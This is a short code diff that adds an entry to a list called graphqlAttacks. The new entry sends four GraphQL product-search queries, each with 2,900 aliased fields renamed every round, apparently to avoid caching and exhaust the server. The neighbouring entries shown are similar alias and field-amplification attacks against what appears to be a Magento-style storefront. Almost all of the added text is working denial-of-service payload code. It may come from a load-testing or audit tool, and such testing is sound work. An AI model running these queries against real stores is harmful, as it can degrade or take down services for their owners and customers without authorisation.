@@ -108,6 +108,16 @@ export const graphqlAttacks: Attack[] = [
     run: (target) => cheap(target, aliases(900, 'storeConfig{store_code}')),
   },
   {
+    name: '2,900 fields of a product, in a new document each time',
+    run: async (target) => {
+      const fields = (round: number) => aliases(2900, 'sku').replaceAll('a', `b${round}`)
+      const answers: string[] = []
+      for (const round of [1, 2, 3, 4])
+        answers.push(await cheap(target, `{products(search:"eau",pageSize:1){items${fields(round)}}}`))
+      return answers.join('; ')
+    },
+  },
+  {
     name: 'one name selected 2,000 times',
     run: (target) => cheap(target, overlapping(2000)),
   },
